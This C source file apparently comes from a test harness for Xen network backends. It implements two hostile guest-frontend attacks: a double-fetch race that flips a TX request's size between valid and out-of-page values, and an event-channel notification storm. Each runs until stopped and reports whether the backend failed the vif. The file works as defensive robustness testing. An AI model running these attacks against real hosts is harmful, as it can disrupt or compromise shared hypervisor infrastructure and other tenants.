/* The hostile netfronts that attack until stopped (netfront_attack.h). */
#include "netfront_attack.h"

#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <xen/io/xenbus.h>

#include "netfront_priv.h"

#define FRAME_LEN   60
#define BAD_SIZE    5000 /* offset 0 + 5000 > one page */
#define ETHERTYPE   0x88b5
#define ANSWER_WAIT 5000 /* ms */

bool nf_attack_known(const char *name)
{
    return !strcmp(name, "double-fetch") || !strcmp(name, "event-storm");
}

/* Page 0 of the queue: the valid frame, then 'M' to the end of the page. */
static void fill_page(uint8_t *p)
{
    static const uint8_t dst[6] = {0x01, 0x80, 0xc2, 0x00, 0x00, 0x0e};
    static const uint8_t src[6] = {0x02, 0x00, 0x00, 0x00, 0xdf, 0x01};
    memset(p, 'M', PV_PAGE_SIZE);
    memcpy(p, dst, 6);
    memcpy(p + 6, src, 6);
    p[12] = ETHERTYPE >> 8;
    p[13] = ETHERTYPE & 0xff;
    memset(p + 14, 'A', FRAME_LEN - 14);
}

struct flipper {
    volatile uint16_t *size; /* the slot's size field, in the shared ring */
    int done;
};

/* The second thread: rewrites the size between the valid and the invalid
 * value as fast as it can, each a single 16-bit store; the invalid value
 * one store in FLIP_VALID + 1, so that most rounds end with the frame sent
 * and a hostile guest races many rounds before its vif fails (making guests
 * is toolstack CPU the good guests would pay for). */
#define FLIP_VALID 63
static void *flip(void *arg)
{
    struct flipper *fl = arg;
    while (!__atomic_load_n(&fl->done, __ATOMIC_ACQUIRE)) {
        __atomic_store_n(fl->size, BAD_SIZE, __ATOMIC_RELAXED);
        for (int i = 0; i < FLIP_VALID; i++)
            __atomic_store_n(fl->size, FRAME_LEN, __ATOMIC_RELAXED);
    }
    return NULL;
}

static int double_fetch(struct netfront *f, volatile int *stop, char *err, size_t errlen)
{
    struct nf_queue *q = &f->q[0];
    unsigned rounds = 0, sent = 0, dropped = 0;
    bool failed = false;

    fill_page(q->tx_pages);
    while (!*stop && !failed) {
        RING_IDX pos = q->tx_prod++;
        netif_tx_request_t *r = &q->tx->ring[pos & (NF_TX_SIZE - 1)].req;
        memset(r, 0, sizeof(*r));
        r->gref = q->tx_refs[0];
        r->size = FRAME_LEN;
        struct flipper fl = {.size = &r->size};
        pthread_t t;
        bool flipping = pthread_create(&t, NULL, flip, &fl) == 0;
        __atomic_store_n(&q->tx->req_prod, q->tx_prod, __ATOMIC_RELEASE);
        pv_evtchn_notify(q->evt, q->tx_port);
        int waited = 0;
        while (__atomic_load_n(&q->tx->rsp_prod, __ATOMIC_ACQUIRE) == pos &&
               !(failed = fe_be_state(&f->bus) >= XenbusStateClosing) && waited < ANSWER_WAIT) {
            usleep(100);
            waited++; /* 0.1 ms steps: ANSWER_WAIT 10 times over is plenty */
        }
        __atomic_store_n(&fl.done, 1, __ATOMIC_RELEASE);
        if (flipping)
            pthread_join(t, NULL);
        rounds++;
        if (failed)
            break;
        if (__atomic_load_n(&q->tx->rsp_prod, __ATOMIC_ACQUIRE) == pos) {
            snprintf(err, errlen, "double-fetch: round %u not answered", rounds);
            return -1;
        }
        int16_t status = q->tx->ring[pos & (NF_TX_SIZE - 1)].rsp.status;
        q->tx_cons = q->tx_prod;
        if (status == NETIF_RSP_OKAY)
            sent++;
        else if (status == NETIF_RSP_ERROR || status == NETIF_RSP_DROPPED)
            dropped++;
        else {
            snprintf(err, errlen, "double-fetch: round %u answered %d", rounds, status);
            return -1;
        }
        /* About a thousand rounds a second at most: the attack is the race,
         * not the frames' rate. */
        usleep(1000);
    }
    printf("double-fetch: %u rounds: %u sent, %u dropped%s\n", rounds, sent, dropped,
           failed ? ", vif failed" : "");
    return 0;
}

static int event_storm(struct netfront *f, volatile int *stop)
{
    struct nf_queue *q = &f->q[0];
    unsigned long long n = 0;
    bool failed = false;

    while (!*stop && !failed) {
        for (int i = 0; i < 10000; i++) {
            pv_evtchn_notify(q->evt, q->tx_port);
            if (q->rx_port != q->tx_port)
                pv_evtchn_notify(q->evt, q->rx_port);
            if (f->ctrl_on)
                pv_evtchn_notify(f->ctrl_evt, f->ctrl_port);
        }
        n += 10000;
        failed = fe_be_state(&f->bus) >= XenbusStateClosing;
    }
    printf("event-storm: %llu notifications%s\n", n, failed ? ", vif failed" : "");
    return 0;
}

int nf_attack(struct netfront *f, const char *name, volatile int *stop, char *err, size_t errlen)
{
    int rc =
        !strcmp(name, "double-fetch") ? double_fetch(f, stop, err, errlen) : event_storm(f, stop);
    fflush(stdout);
    return rc;
}
